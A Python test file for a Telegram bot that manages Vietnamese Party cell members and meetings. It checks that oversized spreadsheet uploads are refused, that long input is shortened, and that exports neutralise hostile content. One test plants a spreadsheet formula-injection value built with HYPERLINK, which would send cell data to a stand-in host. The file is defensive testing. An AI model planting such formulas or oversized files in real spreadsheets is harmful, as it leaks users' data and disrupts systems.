"""Input that breaks things for others, through the real Application (issue 10)."""

from __future__ import annotations

import asyncio
import io
import threading
from datetime import date

from openpyxl import load_workbook

from chibo.botapi_emulator import BotApiEmulator
from chibo.storage.meetings import MeetingFields
from chibo.usecases import meetings as meetings_uc
from chibo.usecases import roster_io

from ..usecases.test_hostile_input import header_row, inline, plant, xlsx
from ..usecases.test_meeting_support import org_id
from .conftest import World


async def test_a_spreadsheet_bomb_is_refused_naming_the_limit(emu: BotApiEmulator, world: World):
    lan = await world.secretary(1001, "C1")
    big = "A" * (roster_io.MAX_CELL_CHARS + 1)
    await lan.upload("bom.xlsx", xlsx([header_row(), f'<row r="2">{inline("A2", big)}</row>']))
    reply = await lan.next_reply()
    assert "Dòng 2" in reply.text and str(roster_io.MAX_CELL_CHARS) in reply.text
    far = f'<row r="1000000">{inline("A1000000", "x")}</row>'
    await lan.upload("bom.xlsx", xlsx([header_row(), far]))
    reply = await lan.next_reply()
    assert str(roster_io.MAX_SHEET_ROWS) in reply.text and "dòng" in reply.text


async def test_a_file_is_read_off_the_event_loop(emu: BotApiEmulator, world: World, monkeypatch):
    """While a file is read, the event loop runs: here the test itself sets the event the
    reading thread waits for; had the reading blocked the loop, it would time out."""
    started, release = threading.Event(), threading.Event()
    read = roster_io.read_table
    waited: list[bool] = []

    def slow_read(data: bytes, filename: str) -> roster_io.Table:
        started.set()
        waited.append(release.wait(10))
        return read(data, filename)

    monkeypatch.setattr(roster_io, "read_table", slow_read)
    lan = await world.secretary(1001, "C1")
    await lan.upload("ds.csv", "Họ và tên,Ngày sinh\nLê Văn An,01/01/1970\n".encode())
    assert await asyncio.to_thread(started.wait, 10)
    await asyncio.sleep(0)  # the loop is free: this coroutine runs while the file is read
    release.set()
    reply = await lan.next_reply()
    assert waited == [True] and "1 dòng" in reply.text


# -- long messages -------------------------------------------------------------------------------


async def test_a_long_answer_is_echoed_shortened(emu: BotApiEmulator, world: World):
    lan = await world.secretary(1001, "C1")
    await lan.send("/members")
    listing = await lan.next_reply()
    await lan.press(listing, "Thêm đảng viên")
    await lan.next_edit()
    await lan.send("Lê Thị Hoa")
    await lan.next_reply()
    await lan.send("1" * 4000)  # the birth date step
    again = await lan.next_reply()
    assert "Không đọc được" in again.text and "…" in again.text and len(again.text) < 600
    await lan.send("15/3/1990")
    gender = await lan.next_reply()
    await lan.press(gender, "Nữ")
    status = await lan.next_edit()
    await lan.press(status, "Chính thức")
    step = await lan.next_edit()
    for _ in range(5):  # the dates before the card number: skipped, or typed when required
        if "Số thẻ đảng viên" in step.text:
            break
        if any(b.text == "Bỏ qua" for row in step.buttons for b in row):
            await lan.press(step, "Bỏ qua")
            step = await lan.next_edit()
        else:
            await lan.send("01/03/2015")
            step = await lan.next_reply()
    await lan.send("9" * 4000)  # the card number step
    refused = await lan.next_reply()
    assert "không phải là số thẻ đảng viên" in refused.text and len(refused.text) < 600


async def test_a_record_longer_than_a_message_is_split_never_cut(emu: BotApiEmulator, world: World):
    lan = await world.secretary(1001, "C1")
    c1 = await org_id(world.ctx, "C1")
    contents = "\n".join(f"{i}. " + "Nội dung nghị quyết " * 9 for i in range(1, 24))[:3990]
    meeting = await meetings_uc.record(
        world.ctx,
        actor="cli",
        org_id=c1,
        inp=meetings_uc.MeetingInput(
            MeetingFields(date(2026, 11, 5), "regular", contents=contents, rating="Tốt")
        ),
    )
    await lan.send("/meetings")
    book = await lan.next_reply()
    await lan.press_data(book, f"mt:v:{meeting.id}")
    first = await lan.next_edit()
    rest = await lan.next_reply()
    whole = f"{first.text}\n{rest.text}"
    assert "Chi bộ tự đánh giá: Tốt" in whole
    assert contents.splitlines()[-1] in whole
    assert rest.buttons and not first.buttons  # the buttons stay under the end


# -- exports -------------------------------------------------------------------------------------


async def test_the_secretarys_export_survives_stored_control_characters_and_formulas(
    emu: BotApiEmulator, world: World
):
    lan = await world.secretary(1001, "C1")
    c1 = await org_id(world.ctx, "C1")
    await plant(world.ctx, c1, "Nguyễn\x1b Văn An", '=HYPERLINK("http://x/?"&A1,"Bấm vào đây")')
    await lan.send("/members")
    listing = await lan.next_reply()
    await lan.press(listing, "Xuất ra Excel")
    doc = await lan.next_document()
    assert doc.data is not None
    ws = load_workbook(io.BytesIO(doc.data)).active
    names = {row[0].value: row[0].data_type for row in ws.iter_rows(min_row=2)}
    assert names == {"Nguyễn Văn An": "s", '=HYPERLINK("http://x/?"&A1,"Bấm vào đây")': "s"}
